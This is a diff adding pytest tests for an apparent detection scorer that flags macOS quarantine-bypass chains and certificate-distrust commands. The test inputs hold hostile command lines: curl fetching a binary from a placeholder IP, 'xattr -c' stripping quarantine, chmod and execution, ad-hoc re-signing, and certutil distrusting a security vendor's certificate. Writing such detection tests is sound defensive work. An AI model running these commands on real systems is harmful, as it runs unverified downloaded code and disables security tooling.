@@ -1,0 +1,43 @@
+"""What the parts of one line are together."""
+
+from __future__ import annotations
+
+import pytest
+from codesignrisk_core.scorer import Scorer
+
+CLEAR = "xattr -c /tmp/a"
+CURL = "curl -o /tmp/a https://203.0.113.5/a"
+CHAINS = ("fetched_and_started", "cleared_file_fetched", "cleared_file_started")
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        (f"{CURL} && {CLEAR} && chmod +x /tmp/a && /tmp/a", ["fetched_and_started"]),
+        (f"{CURL} && {CLEAR}", ["cleared_file_fetched"]),
+        (f"{CLEAR}; /tmp/a", ["cleared_file_started"]),
+        (f"{CLEAR}; open /tmp/a", ["cleared_file_started"]),
+        ("codesign -f -s - /tmp/a; /tmp/a", ["cleared_file_started"]),
+        # other files
+        (f"{CLEAR}; /tmp/b", []),
+        (f"curl -o /tmp/b https://203.0.113.5/b; {CLEAR}", []),
+        (CLEAR, []),
+        (f"{CURL}; /tmp/a", []),
+    ],
+)
+def test_files_that_lose_their_quarantine(text: str, found: list[str], scorer: Scorer) -> None:
+    verdict = scorer.assess({"EventCode": "1", "Image": "/bin/zsh", "CommandLine": f"zsh -c '{text}'"})
+    assert [name for name in verdict["codesign_indicators"] or () if name in CHAINS] == found
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
+        ("certutil -addstore Disallowed kaspersky_2025.cer", True),
+        ("certutil -addstore Disallowed old-partner.cer", False),
+        ("certutil -addstore Root kaspersky_2025.cer", False),
+    ],
+)
+def test_the_maker_of_a_security_product_is_distrusted(line: str, found: bool, scorer: Scorer) -> None:
+    verdict = scorer.assess({"EventCode": "1", "CommandLine": line})
+    assert ("security_maker_distrusted" in verdict["codesign_indicators"]) is found
